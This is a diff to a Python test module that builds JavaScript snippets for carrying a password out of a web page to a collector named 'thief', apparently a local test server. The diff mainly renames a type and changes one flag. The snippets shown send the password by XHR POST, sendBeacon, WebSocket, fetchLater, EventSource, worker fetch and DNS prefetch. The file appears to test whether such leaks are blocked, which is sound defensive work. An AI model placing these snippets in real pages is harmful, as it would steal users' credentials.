@@ -8,7 +8,7 @@ from __future__ import annotations
 
 from dataclasses import dataclass
 
-from tests.neo.collector import Collector
+from tests.neo.collector import Place
 
 
 @dataclass(frozen=True, slots=True)
@@ -28,7 +28,7 @@ def _tag(name: str, tag: str, attribute: str = "src", **more: str) -> WayOut:
     )
 
 
-def ways_out(thief: Collector) -> list[WayOut]:
+def ways_out(thief: Place = Place()) -> list[WayOut]:  # noqa: B008 - it never changes
     """All of them; the first eight are those of the normal test run, of eight kinds."""
     stun, quic, turn = thief.udp_ports
     host = thief.url.partition("://")[2]
@@ -57,7 +57,7 @@ def ways_out(thief: Collector) -> list[WayOut]:
         WayOut("dns-prefetch", f"link('dns-prefetch', 'http://127.0.0.1:{thief.quiet_port}');", False, "quiet"),
         WayOut("xhr", "const x = new XMLHttpRequest(); x.open('POST', to('xhr')); x.send(password);"),
         WayOut("beacon", "navigator.sendBeacon(to('beacon'), password);"),
-        WayOut("fetch-later", "fetchLater(to('fetch-later'), {activateAfter: 0});", arrives=False),
+        WayOut("fetch-later", "fetchLater(to('fetch-later'), {activateAfter: 0});"),
         WayOut("event-source", "new EventSource(to('event-source'));"),
         WayOut("socket", f"new WebSocket('ws://{host}/socket?' + password);"),
         WayOut("worker-fetch", worker.format("fetch(`+JSON.stringify(to('worker-fetch'))+`, {mode: 'no-cors'})")),
@@ -150,7 +150,7 @@ OWN_ADDRESSES = [
 ]  # fmt: skip
 
 
-def page_script(ways: list[WayOut], thief: Collector, *, seconds: float) -> str:
+def page_script(ways: list[WayOut], thief: Place, *, seconds: float) -> str:
     """What tries them all as soon as the password is there, and says `POST /tried` so many seconds later."""
     attempts = "".join(f"attempt(() => {{ {way.script} }});" for way in ways)
     return f"""
